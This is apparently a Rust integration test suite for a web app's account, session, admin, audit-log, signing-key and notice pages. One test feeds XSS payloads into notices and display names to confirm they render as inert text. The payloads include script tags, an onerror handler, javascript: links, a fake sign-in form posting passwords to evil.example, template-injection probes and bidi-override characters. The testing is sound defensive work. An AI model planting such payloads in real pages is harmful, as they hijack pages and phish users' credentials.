//! What pages show, as the server renders them: lists, their filters and their next pages.

use std::time::Duration;

use super::{
    html::{Html, open},
    test_app::{Browser, PASSWORD, TestApp},
};

/// Whether a text is a time as pages show it: `2026-01-01 00:00 UTC`.
fn is_minute(text: &str) -> bool {
    text.len() == 20 && text.ends_with(" UTC")
}

/// The cells of each row of the table with this label.
fn rows(page: &Html, label: &str) -> Vec<Vec<String>> {
    let bodies = page.with("aria-label", label).all("tbody");
    bodies.iter().flat_map(|body| body.all("tr")).map(|row| row.texts("td")).collect()
}

/// What the second column says: the kinds of events.
fn kinds(page: &Html) -> Vec<String> {
    rows(page, "Events").into_iter().map(|row| row[1].clone()).collect()
}

/// The links between the pages of a list, with where they lead.
fn pages(page: &Html) -> Vec<(String, String)> {
    let links = page.find(|_, attributes| attributes.get("aria-label").is_some_and(|label| label == "Pages"));
    links.iter().flat_map(|links| links.texts("a").into_iter().zip(links.links())).collect()
}

fn names(pages: &[(String, String)]) -> Vec<&str> {
    pages.iter().map(|(name, _)| name.as_str()).collect()
}

async fn id(app: &TestApp, email: &str) -> String {
    app.user(email).await.id.to_string()
}

async fn change_name_often(browser: &mut Browser, times: usize) {
    for n in 0..times {
        let name = format!("Ada {n}");
        let answer = browser.post("/api/account/update_profile", &[("display_name", name.as_str())]).await;
        answer.assert_status(200);
    }
}

#[tokio::test]
async fn the_account_page_shows_the_address_the_roles_and_since_when() {
    let app = TestApp::start().await;
    let mut browser = app.sign_in_as("ada@example.org", "editor admin").await;
    let page = open(&mut browser, "/account").await.main();
    let facts = page.texts("dd");
    assert_eq!(facts[..2], ["ada@example.org", "member, editor, admin"]);
    assert!(is_minute(&facts[2]), "{facts:?}");
    assert_eq!(page.value("display_name"), "Somebody");
}

#[tokio::test]
async fn the_account_page_shows_the_own_activity_alone_page_by_page() {
    let app = TestApp::start().await;
    let mut browser = app.sign_up("ada@example.org").await;
    app.sign_up("grace@example.org").await;
    let activity = |page: &Html| page.with("class", "events").texts("li");
    let events = activity(&open(&mut browser, "/account").await);
    assert_eq!(events.len(), 2);
    assert!(events[0].starts_with("Signed in · 20") && events[0].ends_with(" · 203.0.113.7"), "{events:?}");
    assert!(events[1].starts_with("Account created · "), "{events:?}");

    change_name_often(&mut browser, 11).await;
    let first = open(&mut browser, "/account").await;
    assert_eq!(activity(&first).len(), 10);
    assert_eq!(names(&pages(&first)), ["Next page"]);
    let next = open(&mut browser, &pages(&first)[0].1).await;
    let events = activity(&next);
    assert_eq!(events.len(), 3);
    assert!(events[2].starts_with("Account created"), "{events:?}");
    assert_eq!(pages(&next), [("First page".to_owned(), "/account".to_owned())]);
}

#[tokio::test]
async fn the_sessions_page_lists_the_own_sessions_and_marks_this_one() {
    let app = TestApp::start().await;
    let mut browser = app.sign_up("ada@example.org").await;
    app.sign_up("grace@example.org").await;
    let page = open(&mut browser, "/account/sessions").await.main();
    let shown = page.with("class", "items").all("li");
    assert_eq!(shown.len(), 1, "nobody sees the sessions of others");
    assert!(shown[0].texts("h2")[0].ends_with("This session"));
    let facts = shown[0].texts("dd");
    assert_eq!(facts[1], "203.0.113.7");
    assert!(is_minute(&facts[2]) && is_minute(&facts[3]), "{facts:?}");
    assert!(!page.texts("button").iter().any(|button| button.starts_with("End")));

    app.browser().sign_in("ada@example.org", PASSWORD).await.assert_status(200);
    let page = open(&mut browser, "/account/sessions").await.main();
    let shown = page.with("class", "items").all("li");
    let current = |session: &Html| session.texts("h2")[0].ends_with("This session");
    let ends = |session: &Html| session.texts("button").contains(&"End this session".to_owned());
    assert_eq!(shown.len(), 2);
    assert_eq!(shown.iter().filter(|session| current(session)).count(), 1);
    assert!(shown.iter().all(|session| current(session) != ends(session)), "{shown:?}");
    assert!(page.texts("button").contains(&"End all other sessions".to_owned()));
}

#[tokio::test]
async fn accounts_are_listed_searched_and_shown() {
    let app = TestApp::start().await;
    let mut admin = app.sign_in_as("admin@example.org", "admin").await;
    app.sign_in_as("grace@example.org", "editor").await;
    let grace = id(&app, "grace@example.org").await;
    for query in ["grace", "GRACE@"] {
        let page = open(&mut admin, &format!("/admin/users?query={query}")).await.main();
        let found = rows(&page, "Accounts");
        assert_eq!(found.len(), 1, "{query}");
        assert_eq!(found[0][..4], ["grace@example.org", "Somebody", "member, editor", "active"]);
        assert!(is_minute(&found[0][4]), "{found:?}");
        assert_eq!(page.value("query"), query);
        assert!(page.links().contains(&format!("/admin/users/{grace}")));
    }
    for query in ["race", "%25", "_"] {
        let page = open(&mut admin, &format!("/admin/users?query={query}")).await.main();
        assert!(rows(&page, "Accounts").is_empty(), "{query}");
    }

    let page = open(&mut admin, &format!("/admin/users/{grace}")).await.main();
    let facts = page.texts("dd");
    assert_eq!(page.with("class", "subject").text(), "Somebody");
    assert_eq!(facts[..2], ["grace@example.org", "active"]);
    assert!(is_minute(&facts[2]), "{facts:?}");
    let sessions = rows(&page, "Active sessions");
    assert_eq!(sessions.len(), 1);
    assert_eq!(sessions[0][1], "203.0.113.7");
    let events = page.with("class", "events").texts("li");
    assert_eq!(events.len(), 2);
    assert!(events[0].starts_with("Signed in · ") && events[0].ends_with("203.0.113.7"), "{events:?}");

    admin.post("/api/admin/users/revoke_sessions", &[("user_id", &grace)]).await.assert_status(200);
    let page = open(&mut admin, &format!("/admin/users/{grace}")).await.main();
    assert!(page.text().contains("No active sessions."));
}

#[tokio::test]
async fn a_long_list_of_accounts_has_a_next_page_and_leads_back_to_its_first() {
    let app = TestApp::start().await;
    let mut admin = app.sign_in_as("admin@example.org", "admin").await;
    let invited: Vec<_> = (0..53).map(|n| format!("person.{n:02}@example.org")).collect();
    for email in &invited {
        let fields = [("email", email.as_str()), ("display_name", "Somebody")];
        admin.post("/api/admin/users/invite", &fields).await.assert_status(200);
    }
    let emails =
        |page: &Html| rows(page, "Accounts").into_iter().map(|row| row[0].clone()).collect::<Vec<_>>();
    let first = open(&mut admin, "/admin/users?query=person.").await;
    assert_eq!(emails(&first), invited[..50]);
    assert_eq!(names(&pages(&first)), ["Next page"]);
    let next = open(&mut admin, &pages(&first)[0].1).await;
    assert_eq!(emails(&next), invited[50..]);
    assert_eq!(next.value("query"), "person.");
    assert_eq!(names(&pages(&next)), ["First page"]);
    let again = open(&mut admin, &pages(&next)[0].1).await;
    assert_eq!(emails(&again), invited[..50]);
}

#[tokio::test]
async fn an_invalid_email_address_is_reported_on_the_page() {
    let app = TestApp::start().await;
    let mut admin = app.sign_in_as("admin@example.org", "admin").await;
    for (path, problem) in [
        ("/admin/audit?user_id=nobody", "This is not a valid account ID."),
        ("/admin/audit?event=party", "There is no event of this name."),
        ("/admin/users?cursor=AAAA", "Start from its first page."),
        (
            "/admin/users/01a20200-1ee0-7850-8c65-50e180ddcac6",
            "This no longer exists. It may have been deleted.",
        ),
        ("/admin/users/nobody", "This no longer exists. It may have been deleted."),
    ] {
        let main = Html::parse(&admin.get(path).await.body).main();
        let alerts = main.alerts();
        assert!(alerts.first().is_some_and(|alert| alert.contains(problem)), "{path}: {alerts:?}");
        assert!(main.all("tbody").is_empty(), "{path}");
        assert!(!main.texts("button").contains(&"Delete the account".to_owned()), "{path}");
    }
}

#[tokio::test]
async fn the_audit_page_says_who_did_what_to_whom_and_from_where() {
    let app = TestApp::start().await;
    let mut admin = app.sign_in_as("admin@example.org", "admin").await;
    app.sign_up("grace@example.org").await;
    let grace = id(&app, "grace@example.org").await;
    let roles = [("user_id", grace.as_str()), ("roles", "editor")];
    admin.post("/api/admin/users/set_roles", &roles).await.assert_status(200);
    let page = open(&mut admin, "/admin/audit").await.main();
    let newest = &rows(&page, "Events")[0];
    assert!(is_minute(&newest[0]), "{newest:?}");
    assert_eq!(newest[1..4], ["Roles changed", "admin@example.org", "grace@example.org"]);
    assert!(newest[4].ends_with("203.0.113.7"), "{newest:?}");
    assert_eq!(newest[5], "from: member, to: member editor");
    assert!(page.links().contains(&format!("/admin/users/{grace}")));
}

#[tokio::test]
async fn the_audit_page_is_filtered_by_event_account_and_time() {
    let app = TestApp::start().await;
    let mut admin = app.sign_in_as("admin@example.org", "admin").await;
    app.sign_up("grace@example.org").await;
    app.browser().sign_in("grace@example.org", "not this one").await.assert_status(401);
    let grace = id(&app, "grace@example.org").await;
    let all = ["Sign in failed", "Signed in", "Account created"];
    for (filter, expected) in [
        (format!("user_id={grace}"), all.as_slice()),
        (format!("user_id={grace}&event=sign_in_failed"), &all[..1]),
        ("event=sign_in_failed".to_owned(), &all[..1]),
        (format!("user_id={grace}&from=2001-01-01&to=2101-01-01"), &all),
        (format!("user_id={grace}&from=2001-01-01"), &all),
        (format!("user_id={grace}&from=2101-01-01"), &[]),
        (format!("user_id={grace}&to=2001-01-01"), &[]),
        // A form sends what was left empty too.
        (format!("event=&user_id={grace}&from=&to="), &all),
    ] {
        let page = open(&mut admin, &format!("/admin/audit?{filter}")).await.main();
        assert_eq!(kinds(&page), expected, "{filter}");
    }
    let page = open(&mut admin, &format!("/admin/audit?user_id={grace}&event=sign_in_failed")).await.main();
    assert_eq!(rows(&page, "Events")[0][5], "why: wrong_password");
    assert_eq!(page.selected().as_deref(), Some("sign_in_failed"));
    assert_eq!(page.value("user_id"), grace);
}

#[tokio::test]
async fn a_long_audit_log_has_a_next_page_within_its_filter_and_is_downloaded_with_it() {
    let app = TestApp::start().await;
    let mut admin = app.sign_in_as("admin@example.org", "admin").await;
    change_name_often(&mut admin, 53).await;
    let filter = format!("event=profile_changed&user_id={}", id(&app, "admin@example.org").await);
    let first = open(&mut admin, &format!("/admin/audit?{filter}")).await.main();
    assert_eq!(kinds(&first).len(), 50);
    assert_eq!(names(&pages(&first)), ["Next page"]);
    let next = open(&mut admin, &pages(&first)[0].1).await.main();
    assert_eq!(kinds(&next), ["Profile changed"; 3]);
    assert_eq!(names(&pages(&next)), ["First page"]);
    let again = open(&mut admin, &pages(&next)[0].1).await.main();
    assert_eq!(kinds(&again), kinds(&first));

    let links = first.links();
    let export = links.iter().find(|link| link.starts_with("/admin/audit/export")).unwrap();
    let whole = admin.get(export).await;
    whole.assert_status(200);
    assert_eq!(whole.body.lines().count(), 53);
    let mut member = app.sign_up("ada@example.org").await;
    let refused = member.get(export).await;
    refused.assert_status(403);
    assert!(!refused.body.contains("\"event\""));
}

#[tokio::test]
async fn the_keys_page_lists_the_published_keys() {
    let app = TestApp::start().await;
    let mut admin = app.sign_in_as("admin@example.org", "admin").await;
    app.sign_up("ada@example.org").await;
    let page = open(&mut admin, "/admin/keys").await.main();
    let keys = rows(&page, "Signing keys");
    assert_eq!(keys.len(), 1);
    assert_eq!(keys[0][1..3], ["ES256", "active"]);
    assert!(is_minute(&keys[0][3]), "{keys:?}");
    assert_eq!(keys[0][4..], ["—", "2", "Latchkey"]);

    admin.post("/api/admin/keys/rotate", &[]).await.assert_status(200);
    let page = open(&mut admin, "/admin/keys").await.main();
    let keys = rows(&page, "Signing keys");
    assert_eq!(keys.len(), 2);
    assert!(page.links().contains(&"/.well-known/jwks.json".to_owned()));
    let published = app.browser().get("/.well-known/jwks.json").await;
    for key in &keys {
        assert!(published.body.contains(&format!("\"kid\":\"{}\"", key[0])), "{}", published.body);
    }
    assert_eq!(published.body.matches("\"kid\"").count(), 2);
}

async fn publish(editor: &mut Browser, title: &str, body: &str) -> String {
    let answer = editor.post("/api/notices/publish", &[("title", title), ("body", body)]).await;
    answer.assert_status(200);
    answer.json().as_str().unwrap().to_owned()
}

#[tokio::test]
async fn notices_are_shown_in_paragraphs_with_author_and_time() {
    let app = TestApp::start().await;
    let mut member = app.sign_up("ada@example.org").await;
    let page = open(&mut member, "/notices").await.main();
    assert!(page.text().contains("There are no notices."));

    let mut editor = app.sign_in_as("grace@example.org", "editor").await;
    let body = "It was the hinge.\n\nIt  creaks\nno more.\n\n\n\nThank you!\n";
    let id = publish(&mut editor, "The door is mended", body).await;
    let page = open(&mut member, "/notices").await.main();
    let paragraphs = page.all("article")[0].texts("p");
    let (author, time) = paragraphs[0].split_once(" · ").unwrap();
    assert!(is_minute(time), "{time}");
    assert_eq!(author, "Somebody");
    assert_eq!(paragraphs[1..], ["It was the hinge.", "It creaks no more.", "Thank you!"]);
    assert!(!page.links().contains(&"/notices/edit".to_owned()));
    assert!(!page.texts("button").contains(&"Retract".to_owned()));
    let page = open(&mut editor, "/notices").await.main();
    assert!(page.links().contains(&"/notices/edit".to_owned()));

    editor.post("/api/notices/retract", &[("notice_id", &id)]).await.assert_status(200);
    let page = open(&mut member, "/notices").await.main();
    assert_eq!(page.heading(), "Notices");
    assert!(page.all("article").is_empty());
}

#[tokio::test]
async fn the_newest_notices_come_first_and_older_ones_are_on_the_next_page() {
    let app = TestApp::start().await;
    let mut editor = app.sign_in_as("grace@example.org", "editor").await;
    for n in 1..=12 {
        publish(&mut editor, &format!("Notice {n}"), "Text.").await;
        app.advance(Duration::from_millis(1));
    }
    let newest_first: Vec<_> = (1..=12).rev().map(|n| format!("Notice {n}")).collect();
    let first = open(&mut editor, "/notices").await.main();
    assert_eq!(first.texts("h2"), newest_first[..10]);
    assert_eq!(names(&pages(&first)), ["Next page"]);
    let next = open(&mut editor, &pages(&first)[0].1).await.main();
    assert_eq!(next.texts("h2"), newest_first[10..]);
    assert_eq!(pages(&next), [("First page".to_owned(), "/notices".to_owned())]);
}

#[tokio::test]
async fn markup_in_a_notice_or_in_the_name_of_its_author_is_text_in_a_direction_of_its_own() {
    let app = TestApp::start().await;
    let mut editor = app.sign_in_as("grace@example.org", "editor").await;
    let hostile = [
        "<script>document.title = \"taken over\"</script>",
        "<img src=x onerror=\"document.title = 'taken over'\">",
        "</p></article></main><h1>Sign in again</h1><form action=\"https://evil.example/\"><input name=password>",
        "<a href=\"javascript:document.title=1\">here</a> javascript:document.title=1 [here](javascript:document.title=1)",
        "</script><script>document.title = \"taken over\"</script><!-- --!> {{ 7*7 }} ${7*7} &lt;b&gt; &amp;",
        "User \u{202e} txt.exe \u{2066} evil \u{200f} left",
    ];
    for text in hostile {
        if text.is_ascii() {
            let name: String = text.chars().take(100).collect();
            let fields = [("display_name", name.as_str())];
            editor.post("/api/account/update_profile", &fields).await.assert_status(200);
        }
        publish(&mut editor, text, &format!("First.\n\n{text}\n\nLast.")).await;
        app.advance(Duration::from_millis(1));
        let page = open(&mut editor, "/notices").await;
        assert_eq!(page.title(), "Notices · Latchkey");
        assert_eq!(page.heading(), "Notices");
        let newest = page.main().all("article").remove(0);
        assert_eq!(newest.texts("h2"), [text]);
        assert_eq!(newest.texts("p")[1..], ["First.", text, "Last."]);
        for element in ["script", "img", "a", "form", "input"] {
            assert!(newest.attributes(element).is_empty(), "{element}: {text}");
        }
        // Neither a title nor a paragraph lends its direction to what follows, nor does a name.
        for part in newest.attributes("h2").iter().chain(&newest.attributes("p")[1..]) {
            assert_eq!(part.get("dir").map(String::as_str), Some("auto"), "{part:?}");
        }
        assert_eq!(newest.all("p")[0].texts("bdi").len(), 1);
    }
}

#[tokio::test]
async fn the_longest_notice_is_shown_whole() {
    let app = TestApp::start().await;
    let mut editor = app.sign_in_as("grace@example.org", "editor").await;
    let text = "x".repeat(64_000);
    publish(&mut editor, "Long", &text).await;
    let page = open(&mut editor, "/notices").await.main();
    assert_eq!(page.all("article")[0].texts("p")[1..], [text]);
}
